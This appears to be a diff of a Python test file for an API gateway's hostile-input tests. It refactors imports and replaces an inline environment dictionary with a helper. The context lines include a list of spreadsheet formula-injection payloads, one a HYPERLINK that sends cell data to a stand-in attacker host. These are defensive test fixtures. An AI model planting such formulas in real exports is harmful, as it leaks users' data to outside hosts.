@@ -19,14 +19,15 @@ import pytest
 from gateway.core.clock import utcnow
 from gateway.core.periods import period_of
 from gateway.reports import reconciliation
-from tests.conftest import SUBMIT_PATH, UPSTREAM_KEY, SimulatorProbe, StartGateway
-from tests.faults.conftest import OwnDatabase
-from tests.support.processes import GatewayProcess, SimulatorProcess
-from tests.support.tenants import PEPPER, Tenant, make_tenant
+from tests.support.api import MODEL, SUBMIT_PATH
+from tests.support.database import OwnDatabase
+from tests.support.processes import GatewayProcess, SimulatorProcess, replica_env
+from tests.support.servers import StartGateway
+from tests.support.simulator import UPSTREAM_KEY, SimulatorProbe
+from tests.support.tenants import Tenant, make_tenant
 
 ADMIN = "admin-token-hostile-input-0123456789"
 ADMIN_HEADERS = {"Authorization": f"Bearer {ADMIN}"}
-MODEL = "grok-imagine-video-1-5"
 # What OWASP lists as formula triggers: = + - @ tab and carriage return.
 FORMULAS = [
     '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
@@ -157,14 +158,7 @@ def test_a_huge_body_does_not_stall_other_requests(
     body = json.dumps({"model": MODEL, "prompt": "x", "image": image}).encode()
     assert len(body) > 13_000_000
     with SimulatorProcess(tmp_path, "--api-key", UPSTREAM_KEY) as upstream:
-        env = {
-            "GATEWAY_DATABASE_URL": postgres_url,
-            "GATEWAY_UPSTREAM_URL": upstream.url,
-            "GATEWAY_UPSTREAM_API_KEY": UPSTREAM_KEY,
-            "GATEWAY_KEY_PEPPER": PEPPER,
-            "GATEWAY_RECONCILER_ENABLED": "false",
-            "GATEWAY_LOG_LEVEL": "WARNING",
-        }
+        env = replica_env(postgres_url, upstream.url)
         gateway = GatewayProcess(env, tmp_path, "huge-body").start()
         try:
             worst = [
